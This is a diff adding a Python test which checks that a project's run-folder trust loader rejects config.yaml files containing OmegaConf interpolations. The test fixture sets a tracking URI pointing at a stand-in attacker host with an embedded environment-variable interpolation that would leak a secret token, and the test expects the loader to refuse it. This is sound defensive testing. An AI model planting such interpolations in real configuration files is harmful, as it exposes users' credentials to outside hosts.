@@ -116,6 +116,18 @@ def test_run_config_turns_off_every_trust_switch(tmp_path):
         trust.run_shards(tmp_path, got)
 
 
+
+def test_run_config_refuses_interpolations_that_read_the_readers_environment(tmp_path, monkeypatch):
+    """A run folder's config.yaml is written resolved; a `${oc.env:...}` (or any interpolation) in it was resolved
+    on reading, putting the reader's environment (a token) into the config that tools show and export."""
+    from ebmscale.config import load_config, to_yaml
+    monkeypatch.setenv("EBMSCALE_TEST_SECRET", "s3cr3t-value")
+    cfg = OmegaConf.create(to_yaml(load_config("digits", [])))
+    cfg.tracking.uri = "https://evil.example/${oc.env:EBMSCALE_TEST_SECRET}"
+    (tmp_path / "config.yaml").write_text(OmegaConf.to_yaml(cfg))
+    with pytest.raises(Untrusted, match=r"tracking\.uri.*interpolation"):
+        trust.run_config(tmp_path)
+
 # ---- drill 2: a received run folder's spool names a file outside it -------------------------------------------------
 def _spool_drill_folder(tmp_path):
     victim = tmp_path / "victim"
